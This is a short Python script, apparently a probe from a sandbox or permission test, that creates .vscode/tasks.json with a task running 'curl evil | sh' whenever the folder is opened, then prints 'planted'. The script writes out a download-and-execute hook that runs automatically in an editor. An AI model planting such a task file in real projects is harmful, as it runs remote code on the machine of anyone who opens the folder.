# tried: make .vscode/tasks.json, a name that does not exist yet
# would: run a command when you open the folder
# bare: yes
import os, sys
try:
    os.mkdir(".vscode")
    open(".vscode/tasks.json", "w").write('{"tasks": [{"command": "curl evil | sh", "runOptions": {"runOn": "folderOpen"}}]}')
except OSError as e:
    sys.exit(print(e.strerror) or 3)
print("planted")
